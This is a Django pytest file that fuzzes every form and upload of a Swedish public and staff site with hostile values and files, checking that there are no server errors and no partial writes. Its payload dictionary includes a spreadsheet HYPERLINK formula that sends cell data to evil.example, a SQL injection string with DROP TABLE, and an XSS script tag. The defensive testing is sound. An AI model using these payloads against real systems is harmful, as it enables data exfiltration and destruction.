"""View-level fuzzing: hostile values posted to every form and upload of the public and
the staff site, as users allowed to use them. No answer is a 5xx, and a refused post
writes nothing (every table's row count unchanged). Issue 15.

The forms are found, not listed: each page below is fetched as the user, every
``<form>`` in it is parsed, and for each hostile value it is submitted twice: with the
value in every field, and with the value only in the text fields (hidden fields and
choices keep the page's values, so the post gets past the form into the service).
Uploads get hostile files. Each post runs in a savepoint that is rolled back, so the
posts do not depend on each other (and PostgreSQL's aborted transactions cannot hide a
failure). Runs on SQLite and, with RESULTAT_TEST_DB=postgres, on PostgreSQL."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client

from resultat.initiatives.models import Initiative
from resultat.initiatives.programmes import seed_programmes
from tests.core.tabular.test_hostile_files import HEADER, sheet, xlsx

pytestmark = pytest.mark.django_db

HOSTILE = {
    "huge": "x" * 100_000,
    "nul": "titel\x00med NUL",
    "out-of-range": "99999999999999999999",
    "markup": ("**a " * 5000) + ("[a](http://x " * 2000) + "<script>alert(1)</script>" + "*" * 5000,
    "formula": '=HYPERLINK("http://evil.example/?d="&A2,"x")',
    "unicode": "\u202e\ufeff\U0001F600 e\u0301 \ud7ff" + "\u0000".replace("\u0000", "") + "\uffff",
    "control": "a\x01\x02\x0b\x1fb\r\n\t",
    "sql": "x' OR '1'='1'; DROP TABLE followup_contribution; -- \" NEAR(a b) * ^kolumn:",  # SQL and FTS5 syntax
}
EVERY_FIELD = {"out-of-range", "nul", "unicode"}  # also sent in hidden fields and choices
# non-UTF-8 bytes cannot be a str: they go in a raw urlencoded body
RAW_NON_UTF8 = "%FF%FE%C0%AF%ED%A0%80"

HOSTILE_FILES = {
    "column-AAAAAAA.xlsx": xlsx(sheet(HEADER + '<row r="2"><c r="AAAAAAA2"><v>1</v></c></row>')),
    "broken.xlsx": xlsx(sheet(HEADER)[:-20]),
    "nul.csv": "Beslut-id;Beslutsdatum\r\nx\x00;2025-01-01\r\n".encode(),
    "long-field.csv": ("Beslut-id;Beslutsdatum\r\n" + '"' + "x" * 140_000 + '";1\r\n').encode(),
    "binary.csv": bytes(range(256)) * 8,
    "empty.xlsx": b"",
}


class Forms(HTMLParser):
    """Every <form> with its method, action and fields (name → [values], kinds)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self.current: dict | None = None
        self.select: str | None = None
        self.textarea: str | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            self.current = {"method": a.get("method", "get").lower(), "action": a.get("action", ""), "fields": {}, "kinds": {}, "multipart": "multipart" in a.get("enctype", "")}
            self.forms.append(self.current)
        elif self.current is None or not a.get("name"):
            return
        elif tag == "input":
            kind = a.get("type", "text").lower()
            if kind in ("submit", "button", "image", "reset"):
                return
            if kind in ("checkbox", "radio") and "checked" not in a:
                self.current["kinds"].setdefault(a["name"], kind)
                return
            self.current["fields"].setdefault(a["name"], []).append(a.get("value", "on" if kind in ("checkbox", "radio") else ""))
            self.current["kinds"][a["name"]] = kind
        elif tag == "textarea":
            self.textarea = a["name"]
            self.current["fields"].setdefault(a["name"], [""])
            self.current["kinds"][a["name"]] = "textarea"
        elif tag == "select":
            self.select = a["name"]
            self.current["kinds"][a["name"]] = "select"
        elif tag == "option" and self.select and self.select not in self.current["fields"]:
            self.current["fields"][self.select] = [a.get("value", "")]

    def handle_data(self, data):
        if self.textarea and self.current is not None:
            self.current["fields"][self.textarea] = [data]

    def handle_endtag(self, tag):
        if tag == "form":
            self.current = None
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None


TEXT_KINDS = {"text", "textarea", "search", "email", "url", "tel", "password", "number", "date"}


def _row_counts() -> dict[str, int]:
    return {m._meta.label: m.objects.count() for m in apps.get_models() if not m._meta.proxy and m._meta.managed}


def _forms(client: Client, url: str) -> list[dict]:
    r = client.get(url)
    assert r.status_code < 500, (url, r.status_code)
    if r.status_code != 200 or "html" not in r.get("Content-Type", ""):
        return []
    parser = Forms()
    parser.feed(r.content.decode())
    for form in parser.forms:
        form["url"] = urljoin(url, form["action"] or url)
    return [f for f in parser.forms if urlsplit(f["url"]).netloc in ("", "testserver")]


class Fuzzer:
    def __init__(self):
        self.failures: list[tuple] = []
        self.posts = 0

    def send(self, client: Client, form: dict, data: dict, *, raw: str | None = None, label: str = ""):
        path = urlsplit(form["url"]).path
        sid = transaction.savepoint()
        before = _row_counts() if form["method"] == "post" else None
        try:
            if form["method"] != "post":
                r = client.get(path, {k: v for k, v in data.items() if not hasattr(v, "read")})
            elif raw is not None:
                r = client.post(path, raw, content_type="application/x-www-form-urlencoded")
            else:
                r = client.post(path, data)
            self.posts += 1
            if r.status_code >= 500:
                self.failures.append((form["method"], path, label, r.status_code))
            elif before is not None and r.status_code >= 400 and _row_counts() != before:
                after = _row_counts()
                self.failures.append((form["method"], path, label, r.status_code, {k: (before[k], after[k]) for k in before if before[k] != after[k]}))
        finally:
            transaction.savepoint_rollback(sid)

    def fuzz(self, client: Client, form: dict):
        fields, kinds = form["fields"], form["kinds"]
        names = set(fields) | set(kinds)
        for label, value in HOSTILE.items():
            everywhere = {n: value for n in names if kinds.get(n) != "file"}
            texts = {n: (value if kinds.get(n) in TEXT_KINDS else fields.get(n, [""])[0]) for n in names if kinds.get(n) != "file"}
            modes = (("all fields", everywhere), ("text fields", texts)) if label in EVERY_FIELD else (("text fields", texts),)
            for name, data in modes:
                for n in names:
                    if kinds.get(n) == "file":
                        data[n] = SimpleUploadedFile("x.csv", b"a;b\r\n1;2\r\n")
                self.send(client, form, data, label=f"{label} in {name}")
        raw = "&".join(f"{n}={RAW_NON_UTF8}" for n in names if kinds.get(n) != "file")
        if form["method"] == "post" and not form["multipart"]:
            self.send(client, form, {}, raw=raw, label="non-UTF-8 bytes")
        for n in names:
            if kinds.get(n) == "file":
                for filename, body in HOSTILE_FILES.items():
                    data = {m: fields.get(m, [""])[0] for m in names if kinds.get(m) != "file"}
                    data[n] = SimpleUploadedFile(filename, body)
                    self.send(client, form, data, label=f"file {filename}")


PUBLIC_PAGES = ["/", "/sok/?q=kultur", "/tillganglighet/", "/konto/logga-in/", "/konto/aterstall/", "/insatser/", "/resultat/"]


@pytest.fixture
def site(people, contribution):
    seed_programmes(*[apps.get_model("initiatives", n) for n in ("FundingSource", "FundingProgramme")])
    init = Initiative.objects.create(code="smart-industri", name="Smart industri")
    return {"contribution": contribution, "initiative": init}


def test_no_form_of_the_site_answers_5xx_or_half_writes_on_hostile_input(site, people):
    # CPU time of this process (the test client runs the views in it), not wall time: a
    # hostile value that made a view quadratic shows up here however loaded the machine is
    started = time.process_time()
    c = site["contribution"]
    staff_pages = {
        "editor_a": [f"/uppfoljning/bidrag/{c.pk}/", "/uppfoljning/mina-uppgifter/", "/sok/intern/?q=kultur", "/konto/losenord/"],
        "reviewer": [f"/uppfoljning/bidrag/{c.pk}/", "/uppfoljning/granskning/"],
        "analyst": [f"/uppfoljning/{c.cycle.year}/", "/uppfoljning/", "/insatser/ny/", f"/insatser/{site['initiative'].code}/redigera/",
                    "/insatser/import/", "/uppfoljning/word/", "/larande/forandring/"],
    }
    fuzzer = Fuzzer()
    seen: set[tuple] = set()
    visits = [(None, url) for url in PUBLIC_PAGES] + [(role, url) for role, urls in staff_pages.items() for url in urls]
    for role, url in visits:
        client = Client(raise_request_exception=False)
        if role:
            client.force_login(people[role])
        for form in _forms(client, url):
            key = (role, form["method"], urlsplit(form["url"]).path, tuple(sorted(form["fields"])))
            if key in seen or "/logga-ut/" in form["url"] or "/sprak/" in form["url"]:
                continue
            seen.add(key)
            fuzzer.fuzz(client, form)
    assert len(seen) >= 12, sorted(seen)  # the pages above really have their forms
    assert fuzzer.failures == [], fuzzer.failures
    elapsed = time.process_time() - started
    print(f"{fuzzer.posts} requests to {len(seen)} forms in {elapsed:.1f} s of CPU")
    assert elapsed < 60, f"{fuzzer.posts} requests took {elapsed:.0f} s of CPU"
